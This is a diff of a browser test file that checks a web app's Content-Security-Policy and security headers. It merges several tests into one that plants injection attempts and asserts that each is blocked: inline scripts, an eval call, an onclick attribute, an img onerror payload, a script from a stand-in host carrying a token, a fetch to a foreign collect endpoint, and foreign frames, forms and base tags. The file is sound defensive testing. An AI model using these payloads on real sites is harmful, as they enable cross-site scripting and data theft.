@@ -4,12 +4,128 @@ import { firstQuestionOf } from './answering.ts'
 import { expect, test } from './visit.ts'
 
 const FOREIGN = 'https://elsewhere.example'
-const PAGES = ['/', firstQuestionOf(workouts).path, '/onboarding/subscription']
 
-test.describe('what a stranger plants in the page', () => {
-  test.use({ breaksPolicy: true })
+test.use({ breaksPolicy: true })
 
-  test.beforeEach(async ({ page, visit }) => {
+const PLANTED: readonly (readonly [what: string, directive: string, act: () => void])[] = [
+  [
+    'a script made of a text',
+    'require-trusted-types-for',
+    () => {
+      const script = document.createElement('script')
+      script.textContent = 'window.planted = true'
+      document.body.append(script)
+    },
+  ],
+  // The address of a script is looked at twice: as a trusted type, if no policy of ours is there yet, and as a host.
+  [
+    'a script of another host',
+    'script-src-elem|require-trusted-types-for',
+    () => {
+      const script = document.createElement('script')
+      script.src = 'https://elsewhere.example/evil.js?token=secret'
+      document.body.append(script)
+    },
+  ],
+  // Later, because the browser lets the test's own code run any text.
+  [
+    'a text that is run',
+    'require-trusted-types-for',
+    () => void setTimeout(() => Reflect.get(window, 'eval')('window.planted = true')),
+  ],
+  [
+    'an attribute that is run',
+    'require-trusted-types-for|script-src-attr',
+    () => document.body.setAttribute('onclick', 'window.planted = true'),
+  ],
+  [
+    'a text as HTML',
+    'require-trusted-types-for',
+    () => {
+      document.body.innerHTML = '<img src="x" onerror="window.planted = true">'
+    },
+  ],
+  [
+    'a policy of trusted types',
+    'trusted-types',
+    () => void trustedTypes?.createPolicy('stranger', { createHTML: (text) => text }),
+  ],
+  [
+    'a request to another host',
+    'connect-src',
+    () =>
+      void fetch('https://elsewhere.example/collect').then(
+        () => Object.assign(window, { planted: true }),
+        () => undefined,
+      ),
+  ],
+  [
+    'a frame of another host',
+    'frame-src',
+    () => {
+      const frame = document.createElement('iframe')
+      frame.src = 'https://elsewhere.example/'
+      document.body.append(frame)
+    },
+  ],
+  [
+    'a form to another host',
+    'form-action',
+    () => {
+      const form = document.createElement('form')
+      form.action = 'https://elsewhere.example/'
+      document.body.append(form)
+      form.submit()
+    },
+  ],
+  [
+    'another base for the addresses',
+    'base-uri',
+    () => {
+      const base = document.createElement('base')
+      base.href = 'https://elsewhere.example/'
+      document.head.append(base)
+    },
+  ],
+  [
+    'styles in the page',
+    'style-src-elem',
+    () => {
+      const style = document.createElement('style')
+      style.append('body { display: none }')
+      document.head.append(style)
+    },
+  ],
+]
+
+test(
+  'the browser runs nothing that a stranger plants in the page, on its way or later, and the page has the headers of a live product',
+  { tag: '@7.strict-policy' },
+  async ({ page, visit, blocked }) => {
+    await page.route('**/', async (route) => {
+      const response = await route.fetch()
+      await route.fulfill({
+        response,
+        body: (await response.text()).replace(
+          '</body>',
+          '<script>window.planted = true</script><p onclick="">planted</p></body>',
+        ),
+      })
+    })
+    const response = await page.goto('/')
+    expect(response?.headers()).toMatchObject({
+      'x-content-type-options': 'nosniff',
+      'referrer-policy': 'strict-origin-when-cross-origin',
+      'cross-origin-opener-policy': 'same-origin-allow-popups',
+      'strict-transport-security': expect.stringMatching(/^max-age=\d{8}/),
+      'permissions-policy': expect.stringContaining('camera=()'),
+    })
+    await expect(page.getByText('planted')).toBeAttached()
+    await expect
+      .poll(() => blocked.filter((what) => /^script-src-(?:elem|attr) inline/.test(what)))
+      .toHaveLength(2)
+    expect(await page.evaluate(() => 'planted' in window)).toBe(false)
+
     // Nothing that the policy lets through would reach anybody.
     await page.route(
       (url) => url.origin === FOREIGN,
@@ -22,158 +138,13 @@ test.describe('what a stranger plants in the page', () => {
     )
     await page.goto(firstQuestionOf(workouts).path)
     await visit.settles()
-  })
-
-  const PLANTED: readonly (readonly [what: string, directive: string, act: () => void])[] = [
-    [
-      'a script made of a text',
-      'require-trusted-types-for',
-      () => {
-        const script = document.createElement('script')
-        script.textContent = 'window.planted = true'
-        document.body.append(script)
-      },
-    ],
-    // The address of a script is looked at twice: as a trusted type, if no policy of ours is there yet, and as a host.
-    [
-      'a script of another host',
-      'script-src-elem|require-trusted-types-for',
-      () => {
-        const script = document.createElement('script')
-        script.src = 'https://elsewhere.example/evil.js?token=secret'
-        document.body.append(script)
-      },
-    ],
-    // Later, because the browser lets the test's own code run any text.
-    [
-      'a text that is run',
-      'require-trusted-types-for',
-      () => void setTimeout(() => Reflect.get(window, 'eval')('window.planted = true')),
-    ],
-    [
-      'an attribute that is run',
-      'require-trusted-types-for|script-src-attr',
-      () => document.body.setAttribute('onclick', 'window.planted = true'),
-    ],
-    [
-      'a text as HTML',
-      'require-trusted-types-for',
-      () => {
-        document.body.innerHTML = '<img src="x" onerror="window.planted = true">'
-      },
-    ],
-    [
-      'a policy of trusted types',
-      'trusted-types',
-      () => void trustedTypes?.createPolicy('stranger', { createHTML: (text) => text }),
-    ],
-    [
-      'a request to another host',
-      'connect-src',
-      () =>
-        void fetch('https://elsewhere.example/collect').then(
-          () => Object.assign(window, { planted: true }),
-          () => undefined,
-        ),
-    ],
-    [
-      'a frame of another host',
-      'frame-src',
-      () => {
-        const frame = document.createElement('iframe')
-        frame.src = 'https://elsewhere.example/'
-        document.body.append(frame)
-      },
-    ],
-    [
-      'a form to another host',
-      'form-action',
-      () => {
-        const form = document.createElement('form')
-        form.action = 'https://elsewhere.example/'
-        document.body.append(form)
-        form.submit()
-      },
-    ],
-    [
-      'another base for the addresses',
-      'base-uri',
-      () => {
-        const base = document.createElement('base')
-        base.href = 'https://elsewhere.example/'
-        document.head.append(base)
-      },
-    ],
-    [
-      'styles in the page',
-      'style-src-elem',
-      () => {
-        const style = document.createElement('style')
-        style.append('body { display: none }')
-        document.head.append(style)
-      },
-    ],
-  ]
-
-  for (const [what, directive, act] of PLANTED) {
-    test(`${what} is blocked`, { tag: '@7.strict-policy' }, async ({ page, blocked }) => {
+    for (const [what, directive, act] of PLANTED) {
+      blocked.length = 0
       await page.evaluate(act).catch(() => undefined)
-      await expect.poll(() => blocked.join('\n')).toMatch(new RegExp(`^(?:${directive})`, 'm'))
-      expect(await page.evaluate(() => 'planted' in window)).toBe(false)
-    })
-  }
-})
-
-test.describe('a page that was changed on its way', () => {
-  test.use({ breaksPolicy: true })
-
-  test(
-    'runs no script that the build has not written',
-    { tag: '@7.strict-policy' },
-    async ({ page, blocked }) => {
-      await page.route('**/', async (route) => {
-        const response = await route.fetch()
-        await route.fulfill({
-          response,
-          body: (await response.text()).replace(
-            '</body>',
-            '<script>window.planted = true</script><p onclick="">planted</p></body>',
-          ),
-        })
-      })
-      await page.goto('/')
-      await expect(page.getByText('planted')).toBeAttached()
       await expect
-        .poll(() => blocked.filter((what) => /^script-src-(?:elem|attr) inline/.test(what)))
-        .toHaveLength(2)
-      expect(await page.evaluate(() => 'planted' in window)).toBe(false)
-    },
-  )
-})
-
-for (const address of PAGES) {
-  test(
-    `${address} is served with the headers of a live product, except that the demo may frame itself`,
-    { tag: '@7.strict-policy' },
-    async ({ request }) => {
-      const headers = (await request.get(address)).headers()
-      const policy = headers['content-security-policy'] ?? ''
-      expect(policy).not.toMatch(/unsafe|\*(?:;| |$)/)
-      for (const directive of [
-        "default-src 'none'",
-        "frame-ancestors 'self'",
-        "base-uri 'none'",
-        "object-src 'none'",
-        "require-trusted-types-for 'script'",
-      ])
-        expect(policy).toContain(directive)
-      expect(headers).toMatchObject({
-        'x-content-type-options': 'nosniff',
-        'referrer-policy': 'strict-origin-when-cross-origin',
-        'cross-origin-opener-policy': 'same-origin-allow-popups',
-        'strict-transport-security': expect.stringMatching(/^max-age=\d{8}/),
-        'permissions-policy': expect.stringContaining('camera=()'),
-      })
-    },
-  )
-}
+        .poll(() => blocked.join('\n'), what)
+        .toMatch(new RegExp(`^(?:${directive})`, 'm'))
+      expect(await page.evaluate(() => 'planted' in window), what).toBe(false)
+    }
+  },
+)
